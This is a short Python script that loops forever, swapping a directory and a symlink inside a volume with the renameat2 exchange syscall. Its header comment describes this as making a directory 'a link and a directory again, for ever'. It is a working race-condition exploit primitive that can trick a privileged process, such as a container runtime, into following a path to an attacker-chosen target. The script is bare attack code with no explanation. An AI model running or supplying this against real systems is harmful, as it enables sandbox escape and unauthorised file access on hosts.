# Makes a directory of a volume a link and a directory again, for ever.
import ctypes
import os
import sys

EXCHANGE, HERE, RENAMEAT2 = 2, -100, {"x86_64": 316, "aarch64": 276}[os.uname().machine]
volume, target = sys.argv[1:]
os.chdir(volume)
os.makedirs("place", exist_ok=True)
os.symlink(target, "link")
libc = ctypes.CDLL(None, use_errno=True)
print("ready", flush=True)
while True:
    libc.syscall(RENAMEAT2, HERE, b"place", HERE, b"link", EXCHANGE)
